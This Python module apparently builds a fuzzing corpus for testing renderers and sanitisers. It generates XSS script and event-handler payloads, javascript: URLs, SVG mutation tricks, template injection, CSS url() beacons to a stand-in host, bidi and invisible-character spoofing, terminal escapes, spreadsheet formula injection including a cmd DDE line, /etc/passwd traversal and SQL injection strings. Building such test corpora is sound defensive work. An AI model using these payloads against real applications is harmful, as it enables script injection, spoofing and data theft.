"""Texts that want to be more than text. Each would set `pwned`, ask `nowhere.invalid`, or show something else than it is."""

from __future__ import annotations

from itertools import product

_SETS = ("parent.pwned=1", "top['pwned']=1")
_ELSEWHERE = "//nowhere.invalid/x"

_SCRIPTS = (
    "<script>{s}</script>",
    "<SCRIPT/x>{s}</SCRIPT>",
    "</script><script>{s}</script>",
    "</textarea></title><script>{s}</script>",
    "<script src={e}></script>",
    "<script type=module>import '{e}';{s}</script>",
    "<scr\x00ipt>{s}</scr\x00ipt>",
    "<!--><script>{s}</script-->",
    "<![CDATA[><script>{s}</script>]]>",
    "<noscript><p title='</noscript><script>{s}</script>'>",
)
_ATTRIBUTES = (
    "<img src=x onerror={s}>",
    "<img src={e} onerror={s}>",
    "<img/src=`x`onerror={s}>",
    "<body onload={s}>",
    "<input autofocus onfocus={s}>",
    "<details open ontoggle={s}>",
    "<video><source onerror={s}>",
    "<audio src=x onerror={s}>",
    "<marquee onstart={s}>",
    "<div style='animation:x' onanimationstart={s}>",
    '" autofocus onfocus={s} x="',
    "' onmouseover='{s}",
    'x" onpointerenter="{s}" tabindex="1',
    "<p tabindex=1 onfocus={s} autofocus>",
)
_URLS = (
    "javascript:{s}",
    "JaVaScRiPt:{s}//",
    "java\tscript:{s}",
    "\x01javascript:{s}",
    "data:text/html,<script>{s}</script>",
    "<a href=javascript:{s}>open</a>",
    "<a href={e} ping={e}>open</a>",
    "[open](javascript:{s})",
    "![open](http:{e})",
    "<iframe src=javascript:{s}>",
    "<iframe srcdoc='<script>{s}</script>'>",
    "<object data=javascript:{s}>",
    "<embed src=javascript:{s}>",
    "<form action=javascript:{s}><button>open</form>",
    "<meta http-equiv=refresh content='0;url=http:{e}'>",
    "<base href=http:{e}>",
    "<link rel=stylesheet href=http:{e}>",
    "<link rel=prefetch href=http:{e}>",
)
_SVG = (
    "<svg onload={s}>",
    "<svg><script>{s}</script></svg>",
    "<svg><animate onbegin={s} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{s}><text y=9>open</text></a>",
    "<svg><use href='data:image/svg+xml,<svg onload={s}>'>",
    "<svg><foreignObject><img src=x onerror={s}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={s}>",
    "<svg><image href=http:{e}>",
)
_TEMPLATES = (
    "{{{{constructor.constructor('{s}')()}}}}",
    "${{{s}}}",
    "<%= {s} %>",
    "#{{{s}}}",
    "{{%% if 1 %%}}{s}{{%% endif %%}}",
    "[[${{{s}}}]]",
    "{{{{7*7}}}}",
    "__proto__",
    "constructor",
    "toString",
    "dangerouslySetInnerHTML",
    '{{"__html": "<img src=x onerror={s}>"}}',
    "$&$1$`",
)
_CSS = (
    "<style>@import 'http:{e}';</style>",
    "<style>*{{background:url(http:{e})}}</style>",
    "</style><script>{s}</script>",
    "<div style='background:url(http:{e})'>",
    "red;background:url(http:{e})",
    "x{{}}*{{display:none!important}}",
    "expression({s})",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over</div>",
)
_BIDI = (
    "\u202edesrever\u202c",
    "\u202dforced\u202c",
    "\u2066isolated\u2069\u2067detalosi\u2069",
    "\u202e" * 50 + "never closed",
    "user\u202e\u2066// admin\u2069 \u2066",
    "\u200fright\u200eleft",
    "\u061carabic mark",
    "مرحبا <img src=x onerror={s}> שלום",
    "שם_של_ריצה",
    "reward\u202e0.1\u202c",
)
_CONTROLS = (
    "nul\x00nul",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http:{e}\x07link\x1b]8;;\x07",
    "bell\x07",
    "back\x08\x08\x08space",
    "over\rwritten",
    "\x7fdelete",
    "\x85next\x9bline",
    "a\u2028b\u2029c",
    "\x0b\x0cvertical",
    "\ufeffmark of order",
    "\ufffe\uffff none",
)
_UNSEEN = (
    "zero\u200bwidth",
    "joined\u200d\u200d",
    "pass\u00adword",
    "\u2060\u2061\u2062\u2063",
    "\u3164\uffa0\u115f",
    "\U000e0041\U000e0042 tags",
    "variation\ufe0f\ufe0e\ufe00",
    "раypal",
    "\u200b" * 300,
    " ",
)
_LARGE = (
    "Z" + "\u0327\u0301\u0334" * 400,
    "e" + "\u0489" * 2000,
    "\u1d173" * 20 + "﷽" * 40,
    "w" * 5000,
    "👩‍👩‍👧‍👦" * 200,
    "\n" * 400,
    "\t" * 400,
    "<" * 3000,
    "&lt;" * 500,
    "&#x3c;script&#x3e;{s}&#x3c;/script&#x3e;",
)
_FORMULAS = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http:{e}","open")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    '=IMPORTXML("http:{e}","//a")',
    "\r=1",
)
_PATHS = (
    "../../../../etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    "C:\\Windows\\win.ini",
    "'; DROP TABLE run; --",
    '" OR ""="',
    "%s%n%x",
    "COPY (SELECT 1) TO 'x'",
    "&p.rlboard.run=other#x",
    "?a=b&c=d#e",
)
KINDS: dict[str, tuple[str, ...]] = {
    "scripts": _SCRIPTS,
    "attributes": _ATTRIBUTES,
    "addresses": _URLS,
    "SVG and MathML": _SVG,
    "templates and prototypes": _TEMPLATES,
    "style sheets": _CSS,
    "bidirectional text": _BIDI,
    "control characters": _CONTROLS,
    "what is not seen": _UNSEEN,
    "too much": _LARGE,
    "formulas of spreadsheets": _FORMULAS,
    "paths, SQL, links": _PATHS,
}
"""Kind -> patterns; `{s}` sets `pwned`, `{e}` is elsewhere."""


def payloads() -> dict[str, list[str]]:
    """Kind -> texts, each of them once, at least 150 in all."""
    found: dict[str, list[str]] = {}
    for kind, patterns in KINDS.items():
        texts = (
            pattern.replace("{s}", sets).replace("{e}", _ELSEWHERE).replace("{{", "{").replace("}}", "}")
            for pattern, sets in product(patterns, _SETS)
        )
        found[kind] = list(dict.fromkeys(texts))
    return found
